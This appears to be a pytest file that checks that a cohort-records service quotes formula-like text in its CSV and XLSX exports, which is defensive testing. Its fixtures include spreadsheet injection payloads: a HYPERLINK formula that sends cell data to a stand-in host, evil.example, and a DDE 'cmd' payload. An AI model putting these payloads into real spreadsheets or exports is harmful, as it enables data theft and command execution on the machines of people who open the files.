"""Issue 17, item 14: no CSV or XLSX the product writes carries a formula. Text a spreadsheet
would evaluate (starting with = + - @, tab or CR) gets a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from builders.domain import enrolled
from services.consolidation.entrypoints.tabular import render
from shared.events import domain as ev
from shared.publishing.sheets import write_csv, write_xlsx
from shared.tabular import neutralise
from tests.consolidation import scenario
from tests.consolidation.helpers import NATIONAL, TUBAN, get, scenario_running
from tests.support import Publisher, eventually

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Lihat")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_text_a_spreadsheet_would_evaluate_is_quoted_and_numbers_stay_numbers():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise(v) for v in (-5, -2.5, 0, None, "-5", "+62", "-1.5", "Siti", "a=b")] == [
        -5,
        -2.5,
        0,
        None,
        "-5",
        "+62",
        "-1.5",
        "Siti",
        "a=b",
    ]


def _xlsx_formulas(content: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets: what a spreadsheet would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_render_neutralises_every_text_cell_in_csv_and_xlsx():
    rows = [{"name": v, "jp": -5, "rate": -2.5} for v in HOSTILE]
    body = bytes(render(rows, ["name", "jp", "rate"], "csv", "x").body).decode()
    parsed = list(csv.reader(io.StringIO(body)))
    assert [r[0] for r in parsed[1:]] == ["'" + v for v in HOSTILE]
    assert {(r[1], r[2]) for r in parsed[1:]} == {("-5", "-2.5")}
    content = bytes(render(rows, ["name", "jp", "rate"], "xlsx", "x").body)
    assert _xlsx_formulas(content) == []
    cells = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    # (An XML parser may read a carriage return back as a line feed: lxml keeps it, the
    # standard library's does not.)
    quoted = [("'" + v.replace("\r", "\n"), "s") for v in HOSTILE]
    assert [(str(c[0].value).replace("\r", "\n"), c[0].data_type) for c in cells] == quoted
    assert {(c[1].value, c[1].data_type, c[2].value) for c in cells} == {(-5, "n", -2.5)}


def test_diklat_template_writers_neutralise_too(tmp_path: Path):
    write_csv(tmp_path / "peserta.csv", [["Nama", "JP"], [EVIL, "-5"]])
    rows = list(csv.reader(io.StringIO((tmp_path / "peserta.csv").read_text())))
    assert rows[1] == ["'" + EVIL, "-5"]
    write_xlsx(tmp_path / "peserta.xlsx", [("Peserta", [["Nama", "JP"], [EVIL, "-5"]])])
    assert _xlsx_formulas((tmp_path / "peserta.xlsx").read_bytes()) == []
    sheet = openpyxl.load_workbook(tmp_path / "peserta.xlsx").active
    assert [c.value for c in sheet[2]] == ["'" + EVIL, "-5"]


@pytest.mark.integration
async def test_a_hostile_name_and_programme_reach_every_export_as_text(infra):
    """A participant named with a formula, in a cohort whose programme name is one: the
    roster, registry, ASN history and SIASN exports (CSV and XLSX) show them as quoted text."""
    nip = scenario.NIP["E"]
    async with scenario_running(infra) as (_, http), Publisher(infra) as pub:
        info = scenario.cohort_info(scenario.T1).model_dump()
        info.update(programme_name="-1+" + EVIL, policy_version=2)
        hostile = enrolled(
            scenario.T2,
            "35.23",
            nip,
            EVIL,
            gender="P",
            position="@Analis",
            agency="+Pemkab",
            at=scenario.NOW,
        )
        await scenario.publish(
            pub,
            [
                ev.CohortAmended(**info),
                hostile,
            ],
        )

        async def arrived() -> bool:
            page = await get(http, f"/api/v1/cohorts/{scenario.T2}/participants")
            return bool(page["items"])

        await eventually(arrived, 30, "the hostile enrolment")
        exports = [
            (f"/api/v1/cohorts/{scenario.T2}/participants", {}),
            ("/api/v1/cohorts", {}),
            (f"/api/v1/asn/{scenario.NIP['B']}", {}),
            ("/api/v1/exports/siasn", {"region": "35.23"}),
        ]
        texts = []
        for path, params in exports:
            for fmt in ("csv", "xlsx"):
                response = await http.get(path, params={**params, "format": fmt}, headers=TUBAN)
                assert response.status_code == 200, (path, response.text)
                if fmt == "xlsx":
                    assert _xlsx_formulas(response.content) == [], path
                    book = openpyxl.load_workbook(io.BytesIO(response.content))
                    texts += [str(v) for row in book.active.values for v in row if v is not None]
                else:
                    texts += [v for row in csv.reader(io.StringIO(response.text)) for v in row]
        assert {"'" + EVIL, "'-1+" + EVIL, "'+Pemkab"} <= set(texts)
        dangerous = [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert all(_number(t) for t in dangerous), dangerous
        national = await http.get(
            "/api/v1/cohorts", params={"format": "csv", "year": 2024}, headers=NATIONAL
        )
        assert "'-1+" in national.text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
